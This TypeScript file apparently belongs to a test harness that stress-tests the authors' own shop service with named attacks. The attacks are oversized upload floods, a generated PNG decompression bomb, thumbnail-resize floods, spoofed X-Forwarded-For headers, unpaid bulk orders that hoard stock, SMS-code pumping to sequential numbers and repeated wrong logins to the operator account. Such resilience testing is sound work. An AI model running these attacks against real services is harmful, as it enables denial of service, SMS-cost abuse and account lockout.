/** Attacks by requests alone: too many, too large, too clever. */
import { Readable } from 'node:stream';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { computeAppKey, computeSign } from '../../../packages/client-kit/src/index.ts';
import type { Attack } from '../attack.ts';
import { flood, multipart, send, sendCall } from '../attacker.ts';

const megabyte = 1_048_576;

function* largeBody(megabytes: number) {
  yield multipart.head('goods.csv');
  const part = Buffer.alloc(megabyte, 'x');
  for (let sent = 0; sent < megabytes; sent += 1) yield part;
  yield multipart.foot;
}

export const unsignedUploads: Attack = {
  name: '16 unsigned uploads of 127 MB at once',
  run: ({ nodes: [node] }, isOver) =>
    flood(16, isOver, () =>
      send(node.url, '/api/seller/imports/upload', {
        method: 'POST',
        headers: multipart.headers,
        body: Readable.from(largeBody(127)),
      }),
    ),
};

const uploadPath = '/wanlshop/common/upload';

/** A PNG of one pixel's width and 49 million lines: 95 KB that decode to far more. */
function tallPicture(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const whole = Buffer.alloc(body.length + 8);
    whole.writeUInt32BE(data.length, 0);
    body.copy(whole, 4);
    whole.writeUInt32BE(crc32(body), body.length + 4);
    return whole;
  };
  const size = Buffer.alloc(13);
  size.writeUInt32BE(1, 0);
  size.writeUInt32BE(49_000_000, 4);
  size.writeUInt8(1, 8); // one bit a pixel, grey
  const lines = deflateSync(Buffer.alloc(49_000_000 * 2), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', size),
    chunk('IDAT', lines),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const pictureBomb: Attack = {
  name: 'pictures of 1 × 49,000,000 pixels',
  async run({ nodes: [node], stranger }, isOver) {
    const body = Buffer.concat([
      Buffer.from(multipart.head('tall.png')),
      tallPicture(),
      Buffer.from(multipart.foot),
    ]);
    return flood(8, isOver, () =>
      send(node.url, '/api/wanlshop/common/upload', {
        method: 'POST',
        headers: {
          ...multipart.headers,
          token: stranger.token,
          sign: computeSign(uploadPath, {}, computeAppKey('/socket')),
        },
        body,
      }),
    );
  },
};

const aPicture = () =>
  sharp({ create: { width: 2_000, height: 2_000, channels: 3, background: '#f60' } })
    .png()
    .toBuffer();

export const thumbnails: Attack = {
  name: 'thumbnails of every size',
  async run({ nodes: [node], buyers }, isOver) {
    const picture = await aPicture();
    const { url } = await node
      .client(buyers[0]?.token)
      .upload('POST /wanlshop/common/upload', new Blob([new Uint8Array(picture)]), 'large.png');
    return flood(32, isOver, (turn) =>
      send(node.url, `${url}?w=${(turn % 2_400) + 1}&h=${((turn * 7) % 2_400) + 1}&q=${(turn % 100) + 1}`),
    );
  },
};

export const forgedAddresses: Attack = {
  name: 'calls with an invented X-Forwarded-For',
  run: ({ nodes: [node] }, isOver) =>
    flood(32, isOver, (turn) =>
      sendCall(
        node.url,
        'GET /wanlshop/goods/list',
        { limit: 20, keyword: `x${turn}` },
        {
          headers: { 'x-forwarded-for': `10.${turn % 250}.${(turn >> 8) % 250}.7` },
        },
      ),
    ),
};

export const pagesAndFiles: Attack = {
  name: 'pages, files and figures without end',
  run: ({ nodes: [node] }, isOver) =>
    flood(32, isOver, (turn) =>
      send(node.url, ['/', '/files/aa/none.webp?w=99', '/metrics', '/api/openapi.json'][turn % 4] ?? '/'),
    ),
};

export const hoarding: Attack = {
  name: 'one shopper who orders and never pays',
  async run({ nodes: [node], buyers, item }, isOver) {
    const buyer = buyers.at(-1);
    return flood(8, isOver, (turn) =>
      sendCall(
        node.url,
        'POST /wanlshop/order/create',
        {
          type: 'goods',
          items: [{ ...item, number: 9_999 }],
          address_id: buyer?.addressId,
          payable: '122987.70',
        },
        { token: buyer?.token ?? '', headers: { 'idempotency-key': `hoard-${Date.now()}-${turn}` } },
      ),
    );
  },
};

export const codesToAnyone: Attack = {
  name: 'codes by SMS to any number',
  run: ({ nodes: [node] }, isOver) =>
    flood(8, isOver, (turn) =>
      sendCall(node.url, 'POST /wanlshop/sms/send', {
        mobile: `136${String(turn).padStart(8, '0')}`,
        event: 'login',
      }),
    ),
};

export const wrongLogins: Attack = {
  name: 'wrong logins to the operator’s account',
  run: ({ nodes: [node], operator }, isOver) =>
    flood(8, isOver, (turn) =>
      sendCall(node.url, 'POST /platform/auth/login', {
        account: operator.account,
        password: `wrong-${turn}`,
      }),
    ),
};
